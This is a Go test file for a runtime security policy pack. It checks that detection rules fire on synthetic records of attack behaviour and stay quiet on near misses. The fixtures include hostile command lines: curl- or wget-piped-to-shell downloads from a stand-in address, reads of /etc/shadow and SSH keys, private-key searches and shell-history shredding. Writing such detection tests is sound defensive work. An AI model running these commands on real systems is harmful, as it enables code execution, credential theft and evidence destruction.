package policy_test

import (
	"net/netip"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/sysflow-stack/sysflow/processor/internal/policy"
	"github.com/sysflow-stack/sysflow/processor/internal/policy/engine"
	"github.com/sysflow-stack/sysflow/sfproto"
	"github.com/sysflow-stack/sysflow/sfproto/view"
)

func pack(t testing.TB) *engine.Engine {
	e, found, err := policy.Load(nil, view.Records())
	require.NoError(t, err)
	require.Empty(t, found, "the default pack gives no warning")
	return e
}

// proc is a process below a parent; its name is the last part of exe.
func proc(parent *view.Process, exe, args string) *view.Process {
	p := &sfproto.Process{
		OID: sfproto.OID{CreateTS: 1, HPID: 100}, TS: 1, StartTS: 1, Exe: exe, ExeArgs: args,
		UserName: "root", LoginUID: -1,
	}
	return view.NewProcess(p, parent, nil, nil)
}

func as(uid, euid int32, p *view.Process) *view.Process {
	state := *p.Process
	state.UID, state.EUID, state.UserName = uid, euid, "app"
	return view.NewProcess(&state, p.Parent, nil, nil)
}

func exec(p *view.Process) *view.Record {
	return &view.Record{Record: &sfproto.ProcessEvent{TS: 1, OpFlags: sfproto.OpExec, Syscall: "execve"}, Process: p}
}

func setuid(p *view.Process, uid string) *view.Record {
	return &view.Record{Record: &sfproto.ProcessEvent{TS: 1, OpFlags: sfproto.OpSetuid, Syscall: "setuid", Args: []string{uid}}, Process: p}
}

func opened(p *view.Process, path string, flags int32) *view.Record {
	return &view.Record{
		Record:  &sfproto.FileFlow{TS: 1, StartTS: 1, OpFlags: sfproto.OpOpen | sfproto.OpClose, OpenFlags: flags, FD: 3, Calls: 1 << sfproto.CallOpenat},
		Process: p, File: file(path),
	}
}

func file(path string) *sfproto.File { return &sfproto.File{ResType: sfproto.ResFile, Path: path} }

func removed(p *view.Process, path string) *view.Record {
	return &view.Record{Record: &sfproto.FileEvent{TS: 1, OpFlags: sfproto.OpUnlink, Syscall: "unlinkat"}, Process: p, File: file(path)}
}

func moved(p *view.Process, from, to string) *view.Record {
	return &view.Record{
		Record: &sfproto.FileEvent{TS: 1, OpFlags: sfproto.OpRename, Syscall: "renameat2"}, Process: p,
		File: file(from), NewFile: file(to),
	}
}

// flow is a connection to an address: bytes that it has sent in all.
func flow(p *view.Process, op sfproto.Op, to string, sent int64) *view.Record {
	f := &sfproto.NetworkFlow{
		TS: 1, StartTS: 1, EndTS: 2, OpFlags: op, Proto: sfproto.ProtoTCP, Sport: 40000, Dport: 443, FD: 3,
		NumWSendBytesTotal: sent, Calls: 1<<sfproto.CallConnect | 1<<sfproto.CallSendto,
		SIP: sfproto.IPv4(netip.MustParseAddr("192.168.1.2")),
	}
	if a := netip.MustParseAddr(to); a.Is4() {
		f.DIP = sfproto.IPv4(a)
	} else {
		f.DIP6 = a.As16()
	}
	return &view.Record{Record: f, Process: p}
}

const (
	rd    = sfproto.OpenRdonly
	wr    = sfproto.OpenWronly | sfproto.OpenCreat
	trunc = sfproto.OpenWronly | sfproto.OpenTrunc
)

// packCases are, for rules of the pack, records that fire them and near misses.
func packCases() map[string]struct{ fires, misses []*view.Record } {
	systemd := proc(nil, "/usr/lib/systemd/systemd", "")
	node := proc(systemd, "/usr/bin/node", "/srv/server.js")
	python := proc(systemd, "/usr/bin/python3.11", "/srv/server.py")
	ssh := proc(systemd, "/usr/sbin/sshd", "")
	login := proc(ssh, "/bin/bash", "-l")
	web := proc(node, "/bin/sh", "-c id")
	apt := proc(login, "/usr/bin/apt", "install x")
	type records = []*view.Record
	type cases = struct{ fires, misses []*view.Record }
	return map[string]cases{
		"Shell Spawned by Server Process": {
			records{
				exec(web), exec(proc(python, "/usr/bin/dash", "-c id")),
				exec(proc(proc(proc(systemd, "/usr/sbin/apache2", ""), "/usr/lib/cgi-bin/status", ""), "/bin/bash", "-c id")),
			},
			records{exec(login), exec(proc(web, "/bin/sh", "")), exec(proc(node, "/usr/bin/convert", "a.png")), opened(web, "/srv/x", rd)},
		},
		"Downloader Spawned by Server Process": {
			records{exec(proc(web, "/usr/bin/curl", "-s http://203.0.113.66/x"))},
			records{exec(proc(login, "/usr/bin/curl", "http://203.0.113.66/x")), exec(proc(web, "/usr/bin/id", ""))},
		},
		"Download Run at Once": {
			records{
				exec(proc(node, "/bin/sh", "-c curl -s http://203.0.113.66/install.sh | sh")),
				exec(proc(login, "/bin/bash", "-c wget -q http://203.0.113.66/x && chmod +x x && ./x")),
			},
			records{
				exec(proc(node, "/bin/sh", "-c curl -s http://203.0.113.66/data | jq .")),
				exec(proc(login, "/bin/sh", "-c cat install.sh | sh")),
			},
		},
		"Program Run from Temporary Folder": {
			records{exec(proc(web, "/tmp/agent", "")), exec(proc(web, "/var/tmp/.x/agent", ""))},
			records{exec(proc(web, "/usr/bin/agent", "/tmp/x")), exec(proc(apt, "/tmp/config.sh", "")), exec(proc(login, "/tmpfiles/agent", ""))},
		},
		"Program Run from Shared Memory": {
			records{exec(proc(web, "/dev/shm/agent", ""))},
			records{exec(proc(web, "/bin/cat", "/dev/shm/agent"))},
		},
		"Privileges Raised outside of sudo": {
			records{exec(as(65534, 0, proc(login, "/tmp/agent", "raise"))), setuid(as(1000, 1000, proc(login, "/tmp/agent", "")), "0")},
			records{
				exec(as(1000, 0, proc(login, "/usr/bin/sudo", "id"))), exec(as(1000, 1000, proc(login, "/usr/bin/id", ""))),
				setuid(as(1000, 1000, proc(login, "/usr/bin/thing", "")), "1001"),
			},
		},
		"Password Hashes Read": {
			records{opened(proc(web, "/usr/bin/cat", "/etc/shadow"), "/etc/shadow", rd)},
			records{
				opened(ssh, "/etc/shadow", rd), opened(proc(web, "/usr/bin/cat", ""), "/etc/passwd", rd),
				exec(proc(web, "/usr/bin/cat", "/etc/shadow")),
			},
		},
		"Private Key or Cloud Credentials Read": {
			records{
				opened(proc(web, "/usr/bin/cat", ""), "/home/app/.ssh/id_rsa", rd),
				opened(proc(web, "/usr/bin/cat", ""), "/root/.aws/credentials", rd),
			},
			records{
				opened(proc(login, "/usr/bin/ssh", ""), "/home/app/.ssh/id_rsa", rd),
				opened(proc(login, "/usr/bin/cat", ""), "/home/app/.ssh/id_rsa.pub", rd),
				opened(proc(login, "/usr/bin/cat", ""), "/home/app/.ssh/known_hosts", rd),
			},
		},
		"Search for Private Keys": {
			records{
				exec(proc(web, "/usr/bin/find", "/ -name id_rsa")),
				exec(proc(web, "/usr/bin/grep", "-r BEGIN RSA PRIVATE KEY /")),
			},
			records{exec(proc(login, "/usr/bin/find", "/ -name *.log")), exec(proc(login, "/usr/bin/ls", "id_rsa"))},
		},
		"Database Dump Read": {
			records{opened(proc(web, "/usr/bin/cat", ""), "/srv/backup/customers.sql", rd)},
			records{
				opened(proc(login, "/usr/bin/psql", ""), "/srv/backup/customers.sql", rd),
				opened(proc(login, "/usr/bin/cat", ""), "/srv/backup/customers.txt", rd),
			},
		},
		"Scheduled Task Written": {
			records{opened(web, "/etc/cron.d/update", wr), moved(web, "/tmp/x", "/etc/cron.d/update")},
			records{opened(proc(login, "/usr/bin/crontab", ""), "/var/spool/cron/crontabs/root", wr), opened(web, "/etc/cron.d/update", rd)},
		},
		"Write below etc": {
			records{opened(web, "/etc/profile.d/x.sh", wr)},
			records{opened(proc(apt, "/usr/bin/dpkg", ""), "/etc/profile.d/x.sh", wr), opened(web, "/etc/hosts", wr), opened(web, "/etc/profile", rd)},
		},
		"Write below Binary Folder": {
			records{
				opened(proc(web, "/usr/bin/cp", ""), "/usr/local/bin/update", wr),
				moved(proc(web, "/usr/bin/mv", ""), "/tmp/x", "/usr/bin/ls"),
			},
			records{
				opened(proc(apt, "/usr/bin/dpkg", ""), "/usr/bin/ls", wr), opened(web, "/usr/local/share/x", wr),
				moved(web, "/usr/bin/ls", "/tmp/ls"),
			},
		},
		"Logs Cleared": {
			records{opened(web, "/var/log/auth.log", trunc), removed(proc(web, "/usr/bin/rm", ""), "/var/log/app.log")},
			records{
				opened(web, "/var/log/auth.log", sfproto.OpenWronly|sfproto.OpenAppend), removed(web, "/var/lib/app.log"),
				removed(proc(systemd, "/usr/sbin/logrotate", ""), "/var/log/app.log.9"),
			},
		},
		"Shell History Cleared": {
			records{removed(proc(web, "/usr/bin/rm", ""), "/root/.bash_history"), exec(proc(web, "/usr/bin/shred", "-u /root/.bash_history"))},
			records{
				opened(login, "/root/.bash_history", sfproto.OpenWronly|sfproto.OpenAppend),
				removed(web, "/root/notes"),
			},
		},
		"Outbound Connection by Shell": {
			records{
				flow(proc(web, "/bin/bash", ""), sfproto.OpConnect, "203.0.113.66", 0),
				flow(proc(web, "/bin/bash", ""), sfproto.OpConnect, "2001:db8::66", 0),
			},
			records{
				flow(proc(web, "/bin/bash", ""), sfproto.OpConnect, "127.0.0.1", 0), flow(node, sfproto.OpConnect, "203.0.113.66", 0),
				flow(proc(web, "/bin/bash", ""), sfproto.OpWrite, "203.0.113.66", 10),
			},
		},
		"Outbound Connection by Dropped Program or Inline Script": {
			records{
				flow(proc(web, "/dev/shm/agent", "beacon"), sfproto.OpConnect, "203.0.113.66", 0),
				flow(proc(web, "/usr/bin/python3", "-c import socket"), sfproto.OpConnect, "203.0.113.66", 0),
			},
			records{
				flow(proc(web, "/dev/shm/agent", "beacon"), sfproto.OpConnect, "10.1.2.3", 0),
				flow(python, sfproto.OpConnect, "203.0.113.66", 0),
			},
		},
		"Large Upload to Outside Address": {
			records{flow(proc(web, "/usr/bin/curl", ""), sfproto.OpWrite, "203.0.113.66", 8<<20)},
			records{
				flow(proc(web, "/usr/bin/curl", ""), sfproto.OpWrite, "203.0.113.66", 1<<20),
				flow(proc(web, "/usr/bin/curl", ""), sfproto.OpWrite, "10.0.0.9", 8<<20),
				flow(ssh, sfproto.OpWrite, "203.0.113.66", 8<<20),
				flow(node, sfproto.OpWrite|sfproto.OpAccept, "203.0.113.66", 8<<20),
			},
		},
	}
}

// TestPack holds what is awkward to record; what each rule is for, it must see in a
// recording: see the defaults' tests.
func TestPack(t *testing.T) {
	e := pack(t)
	known := map[string]bool{}
	for _, r := range e.Rules() {
		require.NotEmpty(t, r.Techniques, r.Name)
		known[r.Name] = true
	}
	for name, cases := range packCases() {
		require.True(t, known[name], "no rule %q", name)
		for i, x := range cases.fires {
			require.Contains(t, matches(e, x), name, "record %d must fire", i)
		}
		for i, x := range cases.misses {
			require.NotContains(t, matches(e, x), name, "record %d must not fire", i)
		}
	}
}

func matches(e *engine.Engine, r *view.Record) []string {
	var names []string
	found, _ := e.NewEvaluator(engine.Options{}).Append(nil, r, 0)
	for _, a := range found {
		names = append(names, a.Rule)
	}
	return names
}
